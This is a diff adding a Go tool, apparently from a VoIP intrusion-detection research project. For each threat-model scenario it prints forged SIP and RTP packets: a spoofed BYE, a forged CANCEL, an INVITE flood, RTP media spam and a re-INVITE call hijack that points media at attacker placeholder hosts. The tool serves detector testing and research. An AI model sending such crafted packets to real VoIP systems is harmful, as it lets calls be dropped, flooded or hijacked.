@@ -1,0 +1,112 @@
+// Command attackgen prints the wire-format packets each attack
+// scenario of the paper's threat model (Section 3) would inject —
+// useful for inspecting what the detectors actually see.
+//
+// Usage:
+//
+//	attackgen [-scenario bye-dos|cancel-dos|invite-flood|media-spam|hijack]
+package main
+
+import (
+	"flag"
+	"fmt"
+	"os"
+
+	"vids/internal/rtp"
+	"vids/internal/sdp"
+	"vids/internal/sipmsg"
+)
+
+func main() {
+	if err := run(os.Args[1:]); err != nil {
+		fmt.Fprintln(os.Stderr, "attackgen:", err)
+		os.Exit(1)
+	}
+}
+
+func run(args []string) error {
+	fs := flag.NewFlagSet("attackgen", flag.ContinueOnError)
+	scenario := fs.String("scenario", "bye-dos", "scenario to render")
+	if err := fs.Parse(args); err != nil {
+		return err
+	}
+
+	caller := sipmsg.URI{User: "alice", Host: "a.example.com"}
+	callee := sipmsg.URI{User: "bob", Host: "b.example.com"}
+	const (
+		callID    = "a84b4c76e66710@ua1.a.example.com"
+		callerTag = "1928301774"
+		calleeTag = "a6c85cf"
+	)
+
+	switch *scenario {
+	case "bye-dos":
+		bye := sipmsg.NewRequest(sipmsg.BYE, sipmsg.URI{User: "bob", Host: "ua2.b.example.com"})
+		bye.From = sipmsg.NameAddr{URI: caller}.WithTag(callerTag)
+		bye.To = sipmsg.NameAddr{URI: callee}.WithTag(calleeTag)
+		bye.CallID = callID
+		bye.CSeq = sipmsg.CSeq{Seq: 2, Method: sipmsg.BYE}
+		bye.Via = []sipmsg.Via{{Transport: "UDP", Host: "ua1.a.example.com", Port: 5060,
+			Params: map[string]string{"branch": "z9hG4bKspoofed1"}}}
+		fmt.Println("# Spoofed BYE (Section 3.1): impersonates the caller toward the callee.")
+		fmt.Println("# The receiving UA cannot distinguish it from a genuine hangup.")
+		os.Stdout.Write(bye.Bytes())
+	case "cancel-dos":
+		cancel := sipmsg.NewRequest(sipmsg.CANCEL, callee)
+		cancel.From = sipmsg.NameAddr{URI: caller}.WithTag(callerTag)
+		cancel.To = sipmsg.NameAddr{URI: callee}
+		cancel.CallID = callID
+		cancel.CSeq = sipmsg.CSeq{Seq: 1, Method: sipmsg.CANCEL}
+		cancel.Via = []sipmsg.Via{{Transport: "UDP", Host: "attacker.evil.example.com", Port: 5060,
+			Params: map[string]string{"branch": "z9hG4bKforged1"}}}
+		fmt.Println("# Forged CANCEL (Section 3.1): kills a pending call attempt.")
+		os.Stdout.Write(cancel.Bytes())
+	case "invite-flood":
+		fmt.Println("# INVITE flood (Section 3.1, Figure 4): N such messages within window T1.")
+		inv := sipmsg.NewRequest(sipmsg.INVITE, callee)
+		inv.From = sipmsg.NameAddr{URI: sipmsg.URI{User: "bot1", Host: "evil.example.com"}}.WithTag("bot1tag")
+		inv.To = sipmsg.NameAddr{URI: callee}
+		inv.CallID = "flood-0001@attacker.evil.example.com"
+		inv.CSeq = sipmsg.CSeq{Seq: 1, Method: sipmsg.INVITE}
+		inv.Via = []sipmsg.Via{{Transport: "UDP", Host: "attacker.evil.example.com", Port: 5060,
+			Params: map[string]string{"branch": "z9hG4bKfld0001"}}}
+		contact := sipmsg.NameAddr{URI: sipmsg.URI{User: "bot", Host: "attacker.evil.example.com"}}
+		inv.Contact = &contact
+		inv.ContentType = "application/sdp"
+		inv.Body = sdp.New("bot", "attacker.evil.example.com", 40000, sdp.PayloadG729).Marshal()
+		os.Stdout.Write(inv.Bytes())
+	case "media-spam":
+		fmt.Println("# Media spam (Section 3.2, Figure 6): sniffed SSRC, jumped sequence/timestamp.")
+		p := &rtp.Packet{
+			PayloadType: sdp.PayloadG729,
+			Sequence:    0x3039 + 1000,
+			Timestamp:   0x12345678 + 160000,
+			SSRC:        0xDEADBEEF,
+			Payload:     make([]byte, 20),
+		}
+		raw, err := p.Marshal()
+		if err != nil {
+			return err
+		}
+		fmt.Printf("RTP v2 PT=%d seq=%d ts=%d ssrc=%#x payload=%dB\nhex: % x\n",
+			p.PayloadType, p.Sequence, p.Timestamp, p.SSRC, len(p.Payload), raw)
+	case "hijack":
+		re := sipmsg.NewRequest(sipmsg.INVITE, sipmsg.URI{User: "bob", Host: "ua2.b.example.com"})
+		re.From = sipmsg.NameAddr{URI: caller}.WithTag(callerTag)
+		re.To = sipmsg.NameAddr{URI: callee}.WithTag(calleeTag)
+		re.CallID = callID
+		re.CSeq = sipmsg.CSeq{Seq: 3, Method: sipmsg.INVITE}
+		re.Via = []sipmsg.Via{{Transport: "UDP", Host: "attacker.evil.example.com", Port: 5060,
+			Params: map[string]string{"branch": "z9hG4bKhijack1"}}}
+		contact := sipmsg.NameAddr{URI: sipmsg.URI{User: "mallory", Host: "attacker.evil.example.com"}}
+		re.Contact = &contact
+		re.ContentType = "application/sdp"
+		re.Body = sdp.New("mallory", "attacker.evil.example.com", 41000, sdp.PayloadG729).Marshal()
+		fmt.Println("# Call hijack (Section 3.1): in-dialog re-INVITE redirecting media to the attacker.")
+		os.Stdout.Write(re.Bytes())
+	default:
+		return fmt.Errorf("unknown scenario %q", *scenario)
+	}
+	fmt.Println()
+	return nil
+}
